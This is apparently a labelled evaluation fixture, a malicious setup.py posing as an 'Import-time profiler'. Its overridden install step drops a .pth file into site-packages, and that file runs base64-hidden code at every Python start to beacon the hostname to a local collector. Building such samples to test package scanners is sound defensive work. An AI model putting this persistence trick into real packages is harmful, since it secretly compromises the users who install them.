# Evaluation fixture (malicious): .pth persistence.  An overridden install
# command writes a .pth file into the target environment's site-packages;
# its "import" line runs base64-packed code at every start of that
# interpreter, long after the install (see
# tests/corpus/sources/pth-drop.py).  Acts only inside the evaluation.
import os
import sysconfig

from setuptools import setup
from setuptools.command.install import install

PTH = "import base64;exec(base64.b64decode('IyBDbGVhciBzb3VyY2Ugb2YgdGhlIGNvZGUgdGhlIC5wdGggZmlsZSBvZiBtYWxpY2lvdXMvcHRoLWRyb3AgcnVucyBhdAojIGV2ZXJ5IGludGVycHJldGVyIHN0YXJ0IChzaGlwcGVkIGJhc2U2NCBlbmNvZGVkIGluIHRoZSAucHRoIGxpbmUpLiAgSXQKIyBsZWF2ZXMgYSBtYXJrZXIgYW5kIHJlcG9ydHMgdGhlIHN0YXJ0IHRvIHRoZSBjb2xsZWN0b3IuICBBY3RzIG9ubHkKIyBpbnNpZGUgdGhlIGV2YWx1YXRpb24gKFNQX01BUkssIFNQX1NJTktfUE9SVCkuCmltcG9ydCBvcywgc29ja2V0CmUgPSBvcy5lbnZpcm9uCmlmIGUuZ2V0KCJTUF9NQVJLIikgYW5kIGUuZ2V0KCJTUF9TSU5LX1BPUlQiKToKICAgIG9wZW4ob3MucGF0aC5qb2luKGVbIlNQX01BUksiXSwgInB0aC5yYW4iKSwgImEiKS53cml0ZSgiJWRcbiIgJSBvcy5nZXRwaWQoKSkKICAgIHRyeToKICAgICAgICBzID0gc29ja2V0LmNyZWF0ZV9jb25uZWN0aW9uKCgiMTI3LjAuMC4xIiwgaW50KGVbIlNQX1NJTktfUE9SVCJdKSksIDMpCiAgICAgICAgcy5zZW5kYWxsKGIiUFRILUJFQUNPTiAiICsgc29ja2V0LmdldGhvc3RuYW1lKCkuZW5jb2RlKCkpCiAgICAgICAgcy5jbG9zZSgpCiAgICBleGNlcHQgT1NFcnJvcjoKICAgICAgICBwYXNzCg=='))\n"


class Install(install):
    def run(self):
        if os.environ.get("SP_TOKEN") and os.environ.get("SP_MARK"):
            site = sysconfig.get_paths()["purelib"]
            with open(os.path.join(site, "zz-importtime-hooks.pth"), "w") as f:
                f.write(PTH)
        super().run()


setup(
    name="pth-drop",
    version="2.0.1",
    description="Import-time profiler",
    py_modules=["importprof"],
    cmdclass={"install": Install},
)
